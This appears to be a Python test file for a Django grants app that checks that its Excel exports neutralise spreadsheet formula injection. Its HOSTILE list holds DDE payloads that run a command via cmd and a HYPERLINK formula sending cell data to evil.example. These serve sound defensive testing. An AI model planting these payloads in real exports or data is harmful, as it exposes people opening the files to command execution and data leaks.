"""Issue 13, finding 3: no text becomes a formula in an export (one helper, abah.core.exports, for every export)."""

import datetime
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from abah.core import exports
from abah.grants.models import Grant
from tests.components import libreoffice_available
from tests.grants.conftest import make_grant, make_institution

pytestmark = pytest.mark.django_db
SEARCH = reverse("grants:search")

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "==1",
]


def _cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads it without computing formulas."""
    workbook = load_workbook(io.BytesIO(content))
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_grants_export_writes_hostile_texts_as_text(petugas_client):
    institution = make_institution("=HYPERLINK(\"http://evil.example\",\"Yayasan\")", regency="@SUM(1+1)")
    for i, text in enumerate(HOSTILE):
        make_grant(institution, dpa_number=f"{text}"[:40] if i % 2 == 0 else f"DPA-{i}", purpose=text,
                   recommendation=Grant.Rekomendasi.REGULER)
    response = petugas_client.get(SEARCH, {"q": "", "export": "xlsx"})
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "<f>" not in _sheet_xml(response.content)
    values = {c.value for c in cells}
    for text in HOSTILE:  # the text is kept as it is (no apostrophe added to the data); XML reads CR as LF
        assert text.replace("\r", "\n") in values, text
    assert "=HYPERLINK(\"http://evil.example\",\"Yayasan\")" in values
    # Those texts carry the quote prefix (the file format's leading apostrophe): editing the cell keeps it text.
    hostile_cells = [c for c in cells if isinstance(c.value, str) and c.value.startswith(exports.FORMULA_START)]
    assert hostile_cells and all(c.quotePrefix for c in hostile_cells)


def test_helper_keeps_numbers_and_dates_typed():
    when = datetime.datetime(2018, 11, 30, 2, 0, tzinfo=datetime.UTC)
    content = exports.xlsx_bytes([exports.Sheet(title="Hibah: [2018]", header=["Kode", "Nominal", "Dibuat"],
                                                rows=[["=1+1", Decimal("400000000.00"), when],
                                                      ["-5", -5, datetime.date(2018, 11, 30)],
                                                      [None, 1.5, True]])])
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1] == ("=1+1", 400000000, datetime.datetime(2018, 11, 30, 9, 0))  # WIB
    assert rows[2][0] == "-5" and rows[2][1] == -5 and rows[2][2].date() == datetime.date(2018, 11, 30)
    assert rows[3] == (None, 1.5, True)
    assert sheet.title == "Hibah   2018"
    assert sheet["B3"].data_type == "n" and sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix


def test_helper_response_and_control_characters():
    response = exports.xlsx_response('hibah"; x.xlsx', [exports.Sheet("Hibah", ["a"], [["x\x01y\x1b"]])])
    assert response["Content-Disposition"] == 'attachment; filename="hibah-x.xlsx"'
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == "xy"


@pytest.mark.skipif(not libreoffice_available()[0], reason=libreoffice_available()[1])
def test_libreoffice_does_not_evaluate(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(exports.xlsx_bytes([exports.Sheet("Hibah", ["t"], [[t] for t in HOSTILE if "\r" not in t])]))
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    subprocess.run([binary, "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(path)],
                   check=True, timeout=120, capture_output=True)
    text = (tmp_path / "x.csv").read_text()
    assert "=1+1" in text and "\n2\n" not in text


def test_every_export_goes_through_the_one_helper():
    """No module but the helper writes a workbook or a CSV: a new export that used openpyxl or csv.writer
    directly would bring formulas back."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "abah"
    writer = re.compile(r"openpyxl import .*Workbook\b|Workbook\(|csv\.writer|csv\.DictWriter|\.to_excel\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "exports.py" or p.parent.name != "core"
                 if writer.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


@hypothesis_settings(max_examples=300, deadline=None)
@given(texts=st.lists(st.text(max_size=40) | st.sampled_from(HOSTILE).map(lambda t: t + "x"), min_size=1, max_size=8))
def test_any_text_is_written_as_text(texts):
    """Whatever the text (hypothesis: any code point but surrogates, and the hostile prefixes), the file opens,
    no cell is a formula, and the cleaned text comes back (XML reads CR as LF)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from abah.core.text import clean_text

    content = exports.xlsx_bytes([exports.Sheet("Hibah", ["t"], [[t] for t in texts])])
    cells = _cells(content)[1:]
    assert not [c for c in cells if c.data_type == "f"]
    expected = [ILLEGAL_CHARACTERS_RE.sub("", clean_text(t)).replace("\r\n", "\n").replace("\r", "\n") or None
                for t in texts]
    assert [c.value for c in cells] == expected
